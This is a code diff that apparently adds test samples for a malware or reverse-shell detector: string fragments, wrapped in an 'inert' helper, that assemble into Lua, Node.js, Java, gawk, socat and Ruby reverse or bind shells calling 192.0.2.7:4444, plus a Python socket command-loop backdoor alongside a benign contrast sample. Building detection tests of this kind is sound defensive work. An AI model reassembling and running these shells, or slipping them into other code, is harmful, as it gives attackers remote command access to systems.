@@ -76,8 +76,33 @@ REVERSE_SHELLS = (
         ),
     ),
     Sample(
-        "Script_ReverseShell_RubyPhpLua",
+        "Script_ReverseShell_Languages",
         (
+            inert(
+                "local k=require('soc",
+                "ket');local s=assert(k.bi",
+                "nd('*',4444));local c=s:accept();",
+                "local f=io.po",
+                "pen(r,'r')",
+            ),
+            inert(
+                "sh = require('child_",
+                "process').sp",
+                "awn('",
+                *SHELL,
+                "');require('net').create",
+                "Server(function (c) { c.pi",
+                "pe(sh.stdin)})",
+            ),
+            inert(
+                "p=new ProcessBui",
+                'lder("',
+                *SHELL,
+                '","-i").redirectError',
+                "Stream(true).start();s=new Soc",
+                "ket(h,p);o=p.getOutput",
+                "Stream()",
+            ),
             inert(
                 "f=TCPSoc",
                 'ket.open("192.0.2.7",4444).to_i;ex',
@@ -137,6 +162,13 @@ REVERSE_SHELLS = (
         "Script_ReverseShell_SocatAwk",
         (
             inert(
+                "gawk 'BEGIN {\n s = \"/in",
+                'et/tcp/4444/0/0";\n if ((s |& get',
+                "line c) <= 0) break;\n",
+                "while (c && (c |& get",
+                "line) > 0) print $0 |& s}'",
+            ),
+            inert(
                 "so", "cat exec:'ba", "sh -li',pty,stderr,setsid,sigint,sane tc", "p:192.0.2.7:4444"
             ),
             inert(
@@ -151,6 +183,17 @@ REVERSE_SHELLS = (
             inert(
                 "awk 'BEGIN{s=\"/in", 'et/tcp/0/example.com/80"; print "GET /" |& s; close(s)}\''
             ),
+        ),
+    ),
+    Sample(
+        "Script_Backdoor_PythonCommandLoop",
+        (
+            inert("s = soc", "ket.socket()\ndata = s.re", "cv(1024)\nif data == 'quit': pass\n")
+            + inert("p = subprocess.Po", "pen(data, shell=True)\ns.se", "nd(out)\n"),
+        ),
+        (
+            inert("s = soc", "ket.socket()\ndata = s.re", "cv(1024)\nif data == 'quit': pass\n")
+            + inert("p = subprocess.Po", "pen(['uptime'])\ns.se", "nd(out)\n"),
         ),
     ),
     Sample(
